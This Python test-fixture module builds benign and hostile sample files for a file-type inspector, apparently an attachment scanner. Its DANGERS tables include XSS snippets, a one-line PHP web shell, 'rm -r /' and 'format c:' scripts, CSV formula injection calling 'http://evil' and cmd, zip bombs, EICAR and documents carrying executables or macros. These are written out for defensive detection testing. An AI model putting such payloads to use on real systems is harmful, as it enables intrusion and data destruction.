"""Documents, archives, programs and texts, each made on the spot: by the libraries that people use, or byte by byte.

`NATIVE` holds what WhatsApp takes, by type and variant; `OTHERS` what else is harmless; `DANGERS` what somebody might
slip in. All map a name to a maker.
"""

from __future__ import annotations

import gzip
import io
import random
import struct
from collections.abc import Callable
from functools import cache, partial
from pathlib import Path

import docx
import odf.text
import olefile
import openpyxl
import pptx
import pptx.chart.data
import pptx.enum.chart
import xlwt
from odf.opendocument import OpenDocumentText
from openpyxl.chart import BarChart, Reference
from PIL import Image
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen import canvas

from tests.container_samples import (
    Node,
    Packing,
    compound,
    members,
    pack,
    portable,
    replaced,
    segmented,
    turned,
    with_member,
)

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
DOC, XLS, PPT = "application/msword", "application/vnd.ms-excel", "application/vnd.ms-powerpoint"
PDF, TXT, CSV = "application/pdf", "text/plain", "text/csv"
PROSE = "Dear all,\n\nthe meeting is on Monday. Please bring the figures of last month: café, naïve, Straße.\n"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

TYPES = "[Content_Types].xml"
VBA_LISTED = b'<Override PartName="/a" ContentType="application/vnd.ms-office.vbaProject"/></Types>'

Maker = Callable[[], bytes]


# Documents of today


@cache
def word() -> bytes:
    document = docx.Document()
    document.add_heading("Minutes")
    document.add_paragraph(PROSE)
    return _saved(document.save)


@cache
def word_with_picture() -> bytes:
    picture = io.BytesIO()
    Image.effect_noise((64, 64), 40).save(picture, "PNG")
    document = docx.Document()
    document.add_picture(io.BytesIO(picture.getvalue()))
    document.add_table(3, 3)
    return _saved(document.save)


@cache
def sheet() -> bytes:
    book = openpyxl.Workbook()
    for row in range(20):
        book.active.append([row, f"name {row}", row / 7])
    return _saved(book.save)


@cache
def sheet_with_chart() -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(sheet()))
    chart = BarChart()
    chart.add_data(Reference(book.active, min_col=3, min_row=1, max_row=20))
    book.active.add_chart(chart, "E2")
    book.create_sheet("empty")
    return _saved(book.save)


@cache
def slides() -> bytes:
    presentation = pptx.Presentation()
    presentation.slides.add_slide(presentation.slide_layouts[0]).shapes.title.text = "Figures"
    return _saved(presentation.save)


@cache
def slides_with_chart() -> bytes:
    """Its chart brings a workbook along: an archive in the archive, and nothing is wrong with it."""
    data = pptx.chart.data.CategoryChartData()
    data.categories = ["a", "b"]
    data.add_series("s", (1.0, 2.0))
    presentation = pptx.Presentation()
    shapes = presentation.slides.add_slide(presentation.slide_layouts[5]).shapes
    shapes.add_chart(pptx.enum.chart.XL_CHART_TYPE.PIE, 0, 0, 10**6, 10**6, data)
    return _saved(presentation.save)


@cache
def open_text() -> bytes:
    document = OpenDocumentText()
    document.text.addElement(odf.text.P(text=PROSE))
    return _saved(document.write)


def xps(*, kind: str = "http://schemas.microsoft.com/xps/2005/06/fixedrepresentation") -> bytes:
    """A document that was printed into a file, as Windows writes it: of one page."""
    sequence = "application/vnd.ms-package.xps-fixeddocumentsequence+xml"
    types = f'<Types><Default Extension="fdseq" ContentType="{sequence}"/></Types>'
    relation = f'<Relationships><Relationship Id="R1" Type="{kind}" Target="/FixedDocSeq.fdseq"/></Relationships>'
    pages = [("FixedDocSeq.fdseq", b"<FixedDocumentSequence/>"), ("Documents/1/Pages/1.fpage", PROSE.encode())]
    return pack([(TYPES, types.encode()), ("_rels/.rels", relation.encode()), *pages])


def _saved(save: Callable[[io.BytesIO], object]) -> bytes:
    file = io.BytesIO()
    save(file)
    return file.getvalue()


@cache
def pdf(*, pages: int = 1, password: str = "", compressed: bool = True) -> bytes:
    file = io.BytesIO()
    lock = StandardEncryption(password) if password else None
    page = canvas.Canvas(file, pageCompression=int(compressed), encrypt=lock)
    for number in range(pages):
        page.drawString(100, 700, f"Page {number}")
        page.showPage()
    page.save()
    return file.getvalue()


def pdf_of_picture() -> bytes:
    return _saved(lambda file: Image.linear_gradient("L").save(file, "PDF"))


def pdf_updated() -> bytes:
    """A second end behind the first: an update, as form fillers and signers write it."""
    first = pdf()
    start = first[first.rindex(b"startxref") :].split()[1]
    table = len(first)
    trailer = b"xref\n0 0\ntrailer\n<< /Size 8 /Prev " + start + b" >>\n"
    return first + trailer + b"startxref\n%d\n%%%%EOF\n" % table


def with_main(archive: bytes, kind: bytes) -> bytes:
    """A document whose main part is of that content type."""
    types = dict(members(archive))[TYPES]
    old = next(known for known in MAIN_TYPES if known in types)
    return replaced(archive, TYPES, old, kind)


MAIN_TYPES = tuple(f"{mime}.main+xml".encode() for mime in (DOCX, XLSX, PPTX))


# Documents of old

WORD_CLASS = bytes.fromhex("0609020000000000c000000000000046")
SLIDES_CLASS = bytes.fromhex("108d81649b4fcf1186ea00aa00b929e8")
INSTALLER_CLASS = bytes.fromhex("84100c0000000000c000000000000046")
SUMMARY = Node("\5SummaryInformation", bytes.fromhex("feff000006020200") + bytes(20) + struct.pack("<L", 0))


def old_word(
    *more: Node, encrypted: bool = False, body: bytes = b"text ", shift: int = 9, first: bool = False
) -> bytes:
    flags = 0x0100 if encrypted else 0
    block = struct.pack("<7H", 0xA5EC, 0xC1, 0, 0x0409, 0, 0x1200 | flags, 0xBF) + body * 2000
    nodes = (Node("1Table", b"\1" * 5000), Node("WordDocument", block), SUMMARY, *more)
    return compound(nodes, shift=shift, directory_first=first, class_id=WORD_CLASS)


def old_slides(*more: Node, macros: bool = False, body: bytes = b"slide", shift: int = 9, first: bool = False) -> bytes:
    info = struct.pack("<HHLHHL3L", 0x1F, 0x3FF, 0x14, 2, 0x400, 12, 1, int(macros), 2)
    block = struct.pack("<HHL", 0x0F, 0x3E8, 9000) + info + body * 2000
    user = struct.pack("<HHL3L", 0, 0xFF6, 20, 20, 0xE391C05F, 0)
    nodes = (Node("PowerPoint Document", block), Node("Current User", user), SUMMARY, *more)
    return compound(nodes, shift=shift, directory_first=first, class_id=SLIDES_CLASS)


@cache
def old_sheet(*, rows: int = 10, sheets: int = 1) -> bytes:
    book = xlwt.Workbook()
    for number in range(sheets):
        page = book.add_sheet(f"Sheet {number}")
        for row in range(rows):
            page.write(row, 0, f"name {row}")
            page.write(row, 1, row)
    return _saved(book.save)


def macro_sheet() -> bytes:
    """Excel 4.0 macros: the sheet says of itself that it is one."""
    book = bytearray(old_sheet())
    at = book.index(b"\x85\0", 512)
    book[at + 9] = 1
    return bytes(book)


def storage(name: str, *children: Node) -> Node:
    return Node(name, children=children, storage=True)


CODE = storage("VBA", Node("dir", b"x"))
PACKAGE = Node("\1Ole10Native", b"\2\0setup.exe\0" + portable() + bytes(4096))


def packaged(name: str, *, label: str = "") -> Node:
    """A file in a document, as Windows packages it ([MS-OLEDS] 2.3.6)."""
    texts = [label or name, f"C:\\Users\\ann\\{name}"]
    data = struct.pack("<H", 2) + b"".join(text.encode() + b"\0" for text in texts) + struct.pack("<2H", 0, 3)
    placed = f"C:\\Temp\\{name}".encode() + b"\0"
    data += struct.pack("<L", len(placed)) + placed + struct.pack("<L", 5) + b"hello"
    return Node("\1Ole10Native", struct.pack("<L", len(data)) + data)


def noise(length: int) -> bytes:
    """That nothing can pack."""
    return random.Random(1).randbytes(length)


def first_is_big(archive: bytes) -> bytes:
    """Hundreds of kilobytes of another part before all that tells what it is."""
    return with_member(archive, "customXml/item1.bin", noise(300_000), first=True)


def variants(archive: bytes) -> dict[str, bytes]:
    """The same document as other programs write it."""
    there = members(archive)
    return {
        "in another order": turned(archive),
        "stored": pack(there, Packing(stored=True)),
        "zip64": pack(there, Packing(zip64=True)),
        "streamed": pack(there, Packing(streamed=True)),
        "trash first": with_member(archive, "[trash]/0000.dat", bytes(500), first=True),
        "big part first": first_is_big(archive),
        "with a comment": pack(there, Packing(comment=b"made by hand")),
        "list in UTF-16": pack([(name, _utf16(data) if name == TYPES else data) for name, data in there]),
        "names in capitals": pack([(name.upper() if name == "_rels/.rels" else name, data) for name, data in there]),
    }


def _utf16(xml: bytes) -> bytes:
    return xml.decode().replace("UTF-8", "UTF-16").replace("utf-8", "UTF-16").encode("utf-16")


def _family(name: str, mime: str, *makers: Maker) -> dict[str, tuple[str, Maker]]:
    made = {f"{name}, {maker.__name__}": (mime, maker) for maker in makers}
    for variant in variants(makers[0]()):
        made[f"{name}, {variant}"] = (mime, lambda variant=variant: variants(makers[0]())[variant])
    return made


EPUB = [("mimetype", b"application/epub+zip"), ("META-INF/container.xml", b"<container/>"), ("a.xhtml", b"<html/>")]

OFFICE = Path(__file__).parent / "data" / "office"
OLD_TYPES = {".doc": DOC, ".xls": XLS, ".ppt": PPT}


def _written_by_libreoffice() -> dict[str, tuple[str, Maker]]:
    """Old documents that LibreOffice 7.4 has saved: no package at hand writes .doc and .ppt."""
    return {
        f"{path.stem}, of LibreOffice": (OLD_TYPES[Path(path.stem).suffix], partial(_unpacked, path))
        for path in sorted(OFFICE.glob("*.gz"))
    }


def _unpacked(path: Path) -> bytes:
    return gzip.decompress(path.read_bytes())


NATIVE: dict[str, tuple[str, Maker]] = {
    "txt, UTF-8": (TXT, PROSE.encode),
    "txt, ASCII": (TXT, lambda: b"Hello.\r\n"),
    "txt, UTF-8 with a mark": (TXT, lambda: PROSE.encode("utf-8-sig")),
    "txt, UTF-16": (TXT, lambda: PROSE.encode("utf-16")),
    "txt, UTF-16 the other way round": (TXT, lambda: b"\xfe\xff" + PROSE.encode("utf-16-be")),
    "txt, Latin-1": (TXT, lambda: PROSE.encode("latin-1")),
    "txt, Cyrillic in one byte": (TXT, lambda: ("Добрый день, коллеги. " * 20).encode("cp1251")),
    "txt, Chinese": (TXT, ("会议在星期一。\n" * 30).encode),
    "txt, long": (TXT, (PROSE * 2000).encode),
    "txt, two letters": (TXT, lambda: b"ok"),
    "txt, angle brackets": (TXT, lambda: b"<john.doe@example.com> wrote: 1 < 2\n"),
    "txt, a drawing": (TXT, lambda: b"=====\n| - |\n=====\n"),
    "txt, begins with MZ": (
        TXT,
        lambda: b"MZ is how such a file begins, said the teacher, and nobody listened.\n",
    ),
    "txt, two lines with a comma": (TXT, lambda: b"Dear John,\nI agree, thanks.\n"),
    "pdf": (PDF, pdf),
    "pdf, not compressed": (PDF, lambda: pdf(compressed=False)),
    "pdf, of 300 pages": (PDF, lambda: pdf(pages=300)),
    "pdf, updated": (PDF, pdf_updated),
    "pdf, a line feed behind": (PDF, lambda: pdf() + b"\r\n"),
    "pdf, zeros behind": (PDF, lambda: pdf() + bytes(512)),
    "pdf, of pictures": (PDF, pdf_of_picture),
    "doc": (DOC, old_word),
    "doc, directory first": (DOC, lambda: old_word(first=True)),
    "doc, directory after 3 MB": (DOC, lambda: old_word(body=b"x" * 1600)),
    "doc, sectors of 4096": (DOC, lambda: old_word(shift=12)),
    "doc, with pictures": (DOC, lambda: old_word(Node("Data", noise(90_000)))),
    "doc, with a sheet in it": (DOC, lambda: old_word(_sheet_within())),
    "xls": (XLS, old_sheet),
    "xls, many rows": (XLS, lambda: old_sheet(rows=5000)),
    "xls, many sheets": (XLS, lambda: old_sheet(sheets=40)),
    "xls, of Excel 95": (XLS, lambda: compound([Node("Book", _workbook(old_sheet())), SUMMARY])),
    "xls, sectors of 4096": (XLS, lambda: compound([Node("Workbook", _workbook(old_sheet())), SUMMARY], shift=12)),
    "xls, directory first": (XLS, lambda: compound([Node("Workbook", _workbook(old_sheet()))], directory_first=True)),
    "ppt": (PPT, old_slides),
    "ppt, directory first": (PPT, lambda: old_slides(first=True)),
    "ppt, directory after 3 MB": (PPT, lambda: old_slides(body=b"x" * 1600)),
    "ppt, sectors of 4096": (PPT, lambda: old_slides(shift=12)),
    "ppt, with pictures": (PPT, lambda: old_slides(Node("Pictures", noise(90_000)))),
    "ppt, with a theme in an archive": (PPT, lambda: old_slides(Node("Theme", pack([("theme/theme.xml", b"<a/>")])))),
    **_written_by_libreoffice(),
    **_family("docx", DOCX, word, word_with_picture),
    **_family("xlsx", XLSX, sheet, sheet_with_chart),
    **_family("pptx", PPTX, slides, slides_with_chart),
}

OTHERS: dict[str, tuple[str, Maker]] = {
    "csv": (CSV, lambda: b"id,name\n1,a\n2,b\n"),
    "csv, semicolons": (CSV, lambda: b"id;name\n1;a\n2;b\n"),
    "csv, tabs": (CSV, lambda: b"id\tname\n1\ta\n2\tb\n"),
    "csv, quoted commas": (CSV, lambda: b'id,name\n1,"a, b, c"\n2,"d"\n'),
    "csv, UTF-16": (CSV, lambda: "id;naïve\n1;a\n".encode("utf-16")),
    "csv, long": (CSV, lambda: b"12345,abcdef,1.5\n" * 8000),
    "rtf": ("application/rtf", lambda: b"{\\rtf1\\ansi Hello.\\par}"),
    "json": ("application/json", lambda: b'{"error": "not found"}'),
    "odt": ("application/vnd.oasis.opendocument.text", open_text),
    "epub": ("application/epub+zip", lambda: pack(EPUB)),
    "zip": ("application/zip", lambda: pack([("a.txt", PROSE.encode())])),
    "zip of zips": (
        "application/zip",
        lambda: pack([("b.zip", pack([("a.txt", b"x")])), ("c.rar", b"x"), ("d.7z", b"x")]),
    ),
    "xps": ("application/vnd.ms-xpsdocument", xps),
    "xps, open": (
        "application/vnd.ms-xpsdocument",
        lambda: xps(kind="http://schemas.openxps.org/oxps/v1.0/fixedrepresentation"),
    ),
    "a package of nobody": ("application/zip", lambda: pack([(TYPES, b"<Types/>"), ("a.nuspec", b"x")])),
    "zip, empty": ("application/zip", lambda: pack([])),
    "dotx": (f"{DOCX.removesuffix('document')}template", lambda: with_main(word(), _type_of("word.template"))),
    "gzip": ("application/gzip", lambda: gzip.compress(PROSE.encode())),
    "ole": ("application/x-ole-storage", lambda: compound([Node("Contents", b"x")])),
    "msg": ("application/vnd.ms-outlook", lambda: compound([Node("__properties_version1.0", b"x")])),
    "unknown": ("application/octet-stream", lambda: bytes(range(1, 256)) * 9),
}


def _type_of(kind: str) -> bytes:
    return {
        "word.template": f"{DOCX.removesuffix('document')}template.main+xml".encode(),
        "word": b"application/vnd.ms-word.document.macroEnabled.main+xml",
        "excel": b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        "powerpoint": b"application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
    }[kind]


def with_macros(archive: bytes, kind: str) -> bytes:
    folder = {"word": "word", "excel": "xl", "powerpoint": "ppt"}[kind]
    project = compound([CODE])
    return with_member(with_main(archive, _type_of(kind)), f"{folder}/vbaProject.bin", project)


def _workbook(file: bytes) -> bytes:
    return olefile.OleFileIO(io.BytesIO(file)).openstream("Workbook").read()


def _sheet_within() -> Node:
    return storage("ObjectPool", storage("_1", Node("Workbook", _workbook(old_sheet()))))


# What the inspector has to find: the type, the traits that must be told (others may be), and the maker.
MACROS, ENCRYPTED, PROGRAM, BOMB = "macros", "encrypted", "program-within", "bomb"
DRESSED_UP, ARCHIVE, TRUNCATED, BROKEN, TRAILING = "dressed-up", "archive-within", "truncated", "broken", "trailing"
HTML, SVG, XML, SCRIPT = "text/html", "image/svg+xml", "text/xml", "text/x-script"
PE, ZIP, JAR = "application/vnd.microsoft.portable-executable", "application/zip", "application/java-archive"
DOCM = "application/vnd.ms-word.document.macroEnabled.12"
Danger = tuple[str, tuple[str, ...], Maker]


def _jar() -> bytes:
    return pack([("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\n"), ("A.class", b"\xca\xfe\xba\xbe\0\0\0\x34")])


def _fake(*, types: bytes = b"<Types/>") -> bytes:
    return pack([(TYPES, types), ("word/document.xml", b"<x/>")])


def _shared_bytes() -> bytes:
    """Two members, one body: what is packed is more than the file."""
    there = bytearray(pack([("a", noise(4000)), ("b", noise(4000))]))
    second = there.index(b"PK\3\4", 4)
    end = there.index(b"PK\1\2")
    del there[second:end]
    at = there.index(b"PK\1\2", there.index(b"PK\1\2") + 4)
    there[at + 42 : at + 46] = bytes(4)
    where = there.index(b"PK\5\6")
    there[where + 16 : where + 20] = struct.pack("<L", second)
    return bytes(there)


def _image() -> bytes:
    return bytes(0x8000) + b"\1CD001\1" + bytes(4000)


ARCHIVES: dict[str, Danger] = {
    "docm": (DOCM, (MACROS,), lambda: with_macros(word(), "word")),
    "xlsm": ("application/vnd.ms-excel.sheet.macroEnabled.12", (MACROS,), lambda: with_macros(sheet(), "excel")),
    "pptm": (
        "application/vnd.ms-powerpoint.presentation.macroEnabled.12",
        (MACROS,),
        lambda: with_macros(slides(), "powerpoint"),
    ),
    "docx with macros": (DOCX, (MACROS,), lambda: with_member(word(), "word/vbaProject.bin", b"x")),
    "docx with macros under another name": (
        DOCX,
        (MACROS,),
        lambda: with_member(replaced(word(), TYPES, b"</Types>", VBA_LISTED), "a", b"x"),
    ),
    "docx with a program": (DOCX, (PROGRAM,), lambda: with_member(word(), "word/embeddings/a.bin", portable())),
    "docx with a program in a package": (
        DOCX,
        (PROGRAM,),
        lambda: with_member(word(), "word/embeddings/oleObject1.bin", compound([PACKAGE])),
    ),
    "docx with setup.exe": (DOCX, (PROGRAM,), lambda: with_member(word(), "setup.exe", b"x")),
    "docx with encrypted members": (ZIP, (ENCRYPTED, DRESSED_UP), lambda: pack(members(word()), Packing(flags=1))),
    "docx without its main part": (
        ZIP,
        (DRESSED_UP,),
        lambda: pack([each for each in members(word()) if each[0] != "word/document.xml"]),
    ),
    "docx without relations": (
        ZIP,
        (DRESSED_UP,),
        lambda: pack([each for each in members(word()) if each[0] != "_rels/.rels"]),
    ),
    "docx with two lists": (DOCX, (DRESSED_UP,), lambda: pack([*members(word()), (TYPES, b"<Types/>")])),
    "docx behind another archive": (DOCX, (ARCHIVE,), lambda: _jar() + word()),
    "docx, cut": (ZIP, (TRUNCATED,), lambda: word()[:-500]),
    "docx, goes on": (DOCX, (TRAILING,), lambda: word() + b"x" * 65),
    "docx by its folder alone": (ZIP, (DRESSED_UP, PROGRAM), lambda: pack([("word/setup.exe", portable())])),
    "docx with a list of nothing": (ZIP, (DRESSED_UP,), _fake),
    "docx with a list that is no XML": (ZIP, (DRESSED_UP,), lambda: _fake(types=b"docx")),
    "docx with entities": (
        ZIP,
        (DRESSED_UP,),
        lambda: replaced(word(), TYPES, b"<Types", b'<!DOCTYPE a [<!ENTITY b "c">]><Types'),
    ),
    "odt without a content": (
        ZIP,
        (DRESSED_UP,),
        lambda: pack([("mimetype", b"application/vnd.oasis.opendocument.text"), ("a", b"x")]),
    ),
    "odt with macros": (
        "application/vnd.oasis.opendocument.text",
        (MACROS,),
        lambda: pack([*members(open_text()), ("Basic/Standard/Module1.xml", b"<x/>")]),
    ),
    "jar": (JAR, (PROGRAM,), _jar),
    "apk": (
        "application/vnd.android.package-archive",
        (PROGRAM,),
        lambda: pack([("AndroidManifest.xml", b"x"), ("classes.dex", b"x")]),
    ),
    "zip, encrypted": (ZIP, (ENCRYPTED,), lambda: pack([("a.txt", b"x")], Packing(flags=1))),
    "zip of a program": (ZIP, (PROGRAM,), lambda: pack([("a.pdf.exe", portable())])),
    "zip of a zip of a program": (ZIP, (PROGRAM,), lambda: pack([("b.zip", pack([("a.scr", b"x")]))])),
    "zip of a bomb": (ZIP, (BOMB,), lambda: pack([("b.zip", pack([("a", bytes(900_000))]))])),
    "zip that is too dense": (ZIP, (BOMB,), lambda: pack([("a", bytes(1_000_000))])),
    "zip that claims a gigabyte": (ZIP, (BOMB,), lambda: pack([("a", b"x")], Packing(declared=2**30 + 1))),
    "zip whose members share their bytes": (ZIP, (BOMB,), _shared_bytes),
    "docx that is too dense": (DOCX, (BOMB,), lambda: with_member(word(), "word/media/a.bin", bytes(9_000_000))),
}

OLD: dict[str, Danger] = {
    "doc with macros": (DOC, (MACROS,), lambda: old_word(storage("Macros", CODE))),
    "xls with macros": (
        XLS,
        (MACROS,),
        lambda: compound([Node("Workbook", _workbook(old_sheet())), storage("_VBA_PROJECT_CUR", CODE)]),
    ),
    "xls with macros of Excel 4": (XLS, (MACROS,), macro_sheet),
    "ppt with macros": (PPT, (MACROS,), lambda: old_slides(macros=True)),
    "doc with a program": (DOC, (PROGRAM,), lambda: old_word(storage("ObjectPool", storage("_1", PACKAGE)))),
    "doc, encrypted": (DOC, (ENCRYPTED,), lambda: old_word(encrypted=True)),
    "xls, encrypted": (
        XLS,
        (ENCRYPTED,),
        lambda: compound([Node("Workbook", bytes.fromhex("09081000") + bytes(16) + b"\x2f\0\2\0\0\0")]),
    ),
    "ppt, encrypted": (PPT, (ENCRYPTED,), lambda: old_slides(Node("EncryptedSummary", b"x"))),
    "docx, encrypted": (
        "application/encrypted",
        (ENCRYPTED,),
        lambda: compound([Node("EncryptionInfo", b"x"), Node("EncryptedPackage", noise(9000))]),
    ),
    "doc with an archive behind": (DOC, (ARCHIVE,), lambda: old_word() + _jar()),
    "doc, cut in its directory": ("application/x-ole-storage", (BROKEN,), lambda: old_word()[:9000]),
    "doc, cut in its text": (DOC, (BROKEN,), lambda: old_word(first=True)[:9000]),
    "doc, only its magic": ("application/x-ole-storage", (BROKEN,), lambda: old_word()[:512]),
    "msi": ("application/x-msi", (), lambda: compound([Node("WordDocument", b"x")], class_id=INSTALLER_CLASS)),
}

PAPERS: dict[str, Danger] = {
    "pdf and jar": (PDF, (ARCHIVE,), lambda: pdf() + _jar()),
    "pdf and empty zip": (PDF, (ARCHIVE,), lambda: pdf() + pack([])),
    "pdf, encrypted": (PDF, (ENCRYPTED,), lambda: pdf(password="secret")),
    "pdf, cut": (PDF, (TRUNCATED,), lambda: pdf()[:-200]),
    "pdf, only its magic": (PDF, (TRUNCATED,), lambda: b"%PDF-1.7\n" + PROSE.encode()),
    "pdf of no version": (PDF, (BROKEN,), lambda: pdf().replace(b"%PDF-1.", b"%PDF-a.")),
    "pdf, goes on": (PDF, (TRAILING,), lambda: pdf() + b"x" * 65),
    "pdf, then a page": (PDF, ("markup-within",), lambda: pdf() + b"<html><script>alert(1)</script>"),
}

PAGES: dict[str, Danger] = {
    "html": (HTML, (), lambda: b"<!DOCTYPE html><html><body>x</body></html>"),
    "html, a fragment": (HTML, (), lambda: b"<div onclick=alert(1)>x</div>"),
    "html, a picture that fails": (HTML, (), lambda: b"<img src=x onerror=alert(1)>"),
    "html after blanks": (HTML, (), lambda: b" \n" * 15_000 + b"<script>alert(1)</script>"),
    "html after comments": (HTML, (), lambda: b"<!-- a -->\n" * 500 + b"<script>alert(1)</script>"),
    "html with a mark": (HTML, (), "\ufeff<html>".encode),
    "html in UTF-16": (HTML, (), lambda: "<html><script>".encode("utf-16")),
    "html in UTF-16 without a mark": (HTML, (), lambda: "<html><script>alert(1)</script>".encode("utf-16-le")),
    "html in capitals": (HTML, (), lambda: b"<SCRIPT>alert(1)</SCRIPT>"),
    "an error page": (HTML, (), lambda: b"\r\n<html><head><title>404 Not Found</title></head></html>"),
    "xhtml": (
        "application/xhtml+xml",
        (),
        lambda: b'<?xml version="1.0"?><x:html xmlns:x="http://www.w3.org/1999/xhtml"><x:script/></x:html>',
    ),
    "xslt": ("application/xhtml+xml", (), lambda: b'<s:stylesheet xmlns:s="http://www.w3.org/1999/XSL/Transform"/>'),
    "xml": (XML, (), lambda: b'<?xml version="1.0"?><note/>'),
    "xml without a declaration": (XML, (), lambda: b"<note><to>x</to></note>"),
    "svg": (SVG, (), lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    "svg with a mark": (SVG, (), '\ufeff<svg xmlns="http://www.w3.org/2000/svg"/>'.encode),
    "svg with a prefix": (SVG, (), lambda: b'<s:svg xmlns:s="http://www.w3.org/2000/svg"/>'),
    "svg after a long comment": (SVG, (), lambda: b'<?xml version="1.0"?><!--' + b"x" * 9000 + b"--><svg/>"),
    "svg with a type": (SVG, (), lambda: b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "a.dtd"><svg/>'),
    "svgz": (SVG, (), lambda: gzip.compress(b"<svg/>")),
    "mhtml": ("multipart/related", (), lambda: b"From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: x/y\r\n"),
    "hta": ("application/hta", (), lambda: b"<html><head><HTA:APPLICATION id=x></head></html>"),
    "html called .doc": (HTML, (), lambda: b"<html xmlns:o='urn:schemas-microsoft-com:office:office'><body>x"),
}

PROGRAMS: dict[str, Danger] = {
    "exe": (PE, (), portable),
    "exe of 32 bits": (PE, (), lambda: portable(wide=False)),
    "dll": (PE, ("library",), lambda: portable(library=True)),
    "exe and pdf": (PE, (), lambda: portable() + pdf()),
    "ne": ("application/x-dosexec", (), segmented),
    "mz": ("application/x-dosexec", (), lambda: b"MZ" + bytes(100)),
    "zm": ("application/x-dosexec", (), lambda: b"ZM" + bytes(100)),
    "mz, 20 bytes": ("application/x-dosexec", (), lambda: b"MZ" + bytes(18)),
    "elf": ("application/x-executable", (), lambda: Path("/bin/true").read_bytes()),
    "mach-o": ("application/x-mach-binary", (), lambda: b"\xcf\xfa\xed\xfe\7\0\0\1" + bytes(64)),
    "mach-o, fat": ("application/x-mach-binary", (), lambda: b"\xca\xfe\xba\xbe\0\0\0\2" + bytes(64)),
    "java class": ("application/x-java-applet", (), lambda: b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(64)),
    "dex": ("application/x-dex", (), lambda: b"dex\n035\0" + bytes(64)),
    "lnk": ("application/x-ms-shortcut", (), lambda: b"L\0\0\0\1\x14\2\0\0\0\0\0\xc0" + bytes(64)),
    "chm": ("application/vnd.ms-htmlhelp", (), lambda: b"ITSF\3\0\0\0" + bytes(64)),
    "cab": ("application/vnd.ms-cab-compressed", (), lambda: b"MSCF" + bytes(64)),
    "iso": ("application/x-iso9660-image", (), _image),
    "url": ("application/x-mswinurl", (), lambda: b"[InternetShortcut]\r\nURL=file://evil/a.exe\r\n"),
    "desktop": ("application/x-desktop", (), lambda: b"[Desktop Entry]\nExec=sh\n"),
    "shell": (SCRIPT, (), lambda: b"#!/bin/sh\nrm -r /\n"),
    "python": (SCRIPT, (), lambda: b"#! /usr/bin/env python3\nimport os\n"),
    "php": (SCRIPT, (), lambda: b"<?php system($_GET[0]);"),
    "php after blanks": (SCRIPT, (), lambda: b"\n\n<?PHP system($_GET[0]);"),
    "batch": (SCRIPT, (), lambda: b"@ECHO OFF\r\nformat c:\r\n"),
    "batch in UTF-16": (SCRIPT, (), lambda: "@echo off\r\n".encode("utf-16")),
    "registry": (SCRIPT, (), lambda: "Windows Registry Editor Version 5.00\r\n".encode("utf-16")),
}

TEXTS: dict[str, Danger] = {
    "EICAR": (TXT, ("test-virus",), lambda: EICAR),
    "EICAR behind blanks": (TXT, ("test-virus",), lambda: b" " * 60 + EICAR),
    "EICAR with more behind": (TXT, ("test-virus",), lambda: EICAR + b"\r\n" + b" " * 60),
    "csv with a formula": (TXT, ("formula",), lambda: b'a,b\n1,=HYPERLINK("http://evil","x")\n'),
    "csv with a quoted formula": (CSV, ("formula",), lambda: b'a,b\n1,"=HYPERLINK(""http://evil"",""x"")"\n'),
    "csv with a command": (CSV, ("formula",), lambda: b"a,b\n1,@SUM(1+1)*cmd|' /C calc'!A0\n"),
    "csv that begins with one": (CSV, ("formula",), lambda: b"=1+1,b\n1,2\n"),
}

DANGERS: dict[str, Danger] = ARCHIVES | OLD | PAPERS | PAGES | PROGRAMS | TEXTS
